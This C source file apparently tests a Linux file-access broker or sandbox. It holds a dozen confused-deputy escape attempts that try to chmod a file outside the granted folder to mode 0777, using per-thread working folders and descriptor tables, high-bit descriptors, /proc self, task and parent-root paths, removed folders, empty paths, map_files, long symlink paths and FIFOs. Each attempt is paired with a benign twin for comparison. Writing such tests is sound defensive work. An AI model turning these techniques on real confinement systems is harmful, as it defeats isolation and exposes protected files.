/*
 * Asks whoever makes calls for it in words that mean something else to it. confused-broker <way> <outside file> <outside folder> <grant>
 * Family: broker
 * Facts: a broker that makes a call for somebody else resolves paths, descriptors and /proc/self in its own place unless it takes
 * care (the confused deputy): /proc/self is the reader, a working folder belongs to a thread (CLONE_FS), a descriptor table to a
 * thread (CLONE_FILES), the upper half of a register is not looked at by calls that take an int (man 2 clone, man 5 proc).
 * Witness: the mode of the file outside, or of the one that may only be read.
 * Cases: name | what it tries | attack | twin | marks
 *   thread-folder | a working folder of the thread alone | thread-folder {secret} {outside} {grant} | plain {inside} - {grant} | event=file.attr
 *   thread-table | a descriptor table of the thread alone | thread-table {readonly} {outside} {grant} | plain {inside} - {grant} | event=file.attr
 *   high-bits | a folder's descriptor with bits in the upper half of its register | high-bits {secret} {outside} {grant} | plain {inside} - {grant} | event=file.attr
 *   high-working-folder | the working folder, named by 32 and by 64 bits | high-working {secret} {outside} {grant} | plain {inside} - {grant} | event=file.attr
 *   page-end | a path that ends with its page | page-end {secret} {outside} {grant} | plain {inside} - {grant} | event=file.attr
 *   task-folder | through the folder of a thread of its own | task-folder {secret} {outside} {grant} | plain {inside} - {grant} | event=file.attr
 *   parent-root | through the root of its parent | parent-root {secret} {outside} {grant} | plain {inside} - {grant} | event=file.attr
 *   removed-folder | relative to a folder that was removed meanwhile | removed-folder {secret} {outside} {grant} | plain {inside} - {grant} | event=file.attr
 *   empty-path | an empty path with a handle that only names | empty-path {secret} {outside} {grant} | plain {inside} - {grant} | event=file.attr
 *   map-files | through a file that it mapped | map-files {readonly} {outside} {grant} | plain {inside} - {grant} | event=file.attr
 *   long-way | a path of four thousand bytes with thirty links | long-way {secret} {outside} {grant} | plain {inside} - {grant} | event=file.attr
 *   fifo | a pipe in the place of a file, so that who opens it waits | fifo {secret} {outside} {grant} | plain {inside} - {grant} | event=file.attr
 */
#include "attack.h"

#include <pthread.h>
#include <sched.h>
#include <sys/mman.h>

static const char *target, *folder, *grant, *name;

static void *in_thread_folder(void *nothing) {
  (void)nothing;
  if (unshare(CLONE_FS) < 0) refused("unshare", errno);
  if (chdir(folder) < 0) refused("chdir", errno);
  if (chmod(name, 0777) < 0) refused("chmod", errno);
  reached("chmod");
}

static int shared_number;

static void *in_thread_table(void *nothing) {
  (void)nothing;
  if (unshare(CLONE_FILES) < 0) refused("unshare", errno);
  int other = open(target, O_RDONLY);
  if (other < 0) refused("open", errno);
  dup2(other, shared_number);
  if (fchmod(shared_number, 0777) < 0) refused("fchmod", errno);
  reached("fchmod");
}

int main(int argc, char **argv) {
  const char *way = argument(argc, argv, 1);
  target = argument(argc, argv, 2);
  folder = argument(argc, argv, 3);
  grant = argument(argc, argv, 4);
  name = strrchr(target, '/') + 1;
  char path[8192];
  pthread_t thread;
  if (is(way, "plain")) must("chmod", chmod(target, 0777));
  else if (is(way, "thread-folder")) {
    pthread_create(&thread, NULL, in_thread_folder, NULL);
    pthread_join(thread, NULL);
  } else if (is(way, "thread-table")) {
    snprintf(path, sizeof path, "%s/table-%d", grant, getpid());
    shared_number = (int)prepare("open", open(path, O_CREAT | O_RDWR, 0600));
    pthread_create(&thread, NULL, in_thread_table, NULL);
    pthread_join(thread, NULL);
  } else if (is(way, "high-bits")) {
    int base = (int)must("open", open(folder, O_PATH | O_DIRECTORY));
    must("fchmodat", syscall(SYS_fchmodat, 0x4100000000L | base, name, 0777));
  } else if (is(way, "high-working")) {
    must("chdir", chdir(folder));
    must("fchmodat", syscall(SYS_fchmodat, 0xffffff9cL, name, 0777));
  } else if (is(way, "page-end")) {
    char *pages = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    munmap(pages + 4096, 4096);
    char *at = pages + 4096 - strlen(target) - 1;
    strcpy(at, target);
    must("chmod", chmod(at, 0777));
  } else if (is(way, "task-folder")) {
    must("chdir", chdir(folder));
    snprintf(path, sizeof path, "/proc/self/task/%d/cwd/%s", getpid(), name);
    must("chmod", chmod(path, 0777));
  } else if (is(way, "parent-root")) {
    snprintf(path, sizeof path, "/proc/%d/root%s", getppid(), target);
    must("chmod", chmod(path, 0777));
  } else if (is(way, "removed-folder")) {
    snprintf(path, sizeof path, "%s/removed-%d", grant, getpid());
    prepare("mkdir", mkdir(path, 0700));
    must("chdir", chdir(path));
    prepare("rmdir", rmdir(path));
    char back[8300] = "";
    for (int depth = 0; depth < 12; depth++) strcat(back, "../");
    strcat(back, target + 1);
    /* the removed folder has no way up, so the absolute path is tried from there too */
    if (chmod(back, 0777) < 0) must("chmod", chmod(target, 0777));
  } else if (is(way, "empty-path")) {
    int handle = (int)must("open", open(target, O_PATH));
    must("fchmodat2", syscall(452, handle, "", 0777, AT_EMPTY_PATH));
  } else if (is(way, "map-files")) {
    int file = (int)must("open", open(target, O_RDONLY));
    char *mapped = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    snprintf(path, sizeof path, "/proc/self/map_files/%lx-%lx", (unsigned long)(uintptr_t)mapped, (unsigned long)(uintptr_t)mapped + 4096);
    if (access(path, F_OK) < 0 && errno == EPERM) must("chmod", chmod(target, 0777));
    must("chmod", chmod(path, 0777));
  } else if (is(way, "long-way")) {
    char link_path[4200];
    snprintf(link_path, sizeof link_path, "%s/up-%d", grant, getpid());
    prepare("symlink", symlink("..", link_path));
    path[0] = 0;
    snprintf(path, sizeof path, "%s", grant);
    while (strlen(path) < 3600) strcat(path, "/././././.");
    char back[8300];
    snprintf(back, sizeof back, "%s/up-%d%s", path, getpid(), target + strlen(grant) - strlen(strrchr(grant, '/')));
    must("chmod", chmod(back, 0777));
  } else if (is(way, "fifo")) {
    snprintf(path, sizeof path, "%s/pipe-%d", grant, getpid());
    prepare("mkfifo", mkfifo(path, 0600));
    if (fork() == 0) {
      truncate(path, 0);
      chmod(path, 0700);
      _exit(0);
    }
    usleep(50000);
    must("chmod", chmod(target, 0777));
  } else {
    errno = EINVAL;
    broken("way");
  }
  reached(way);
}
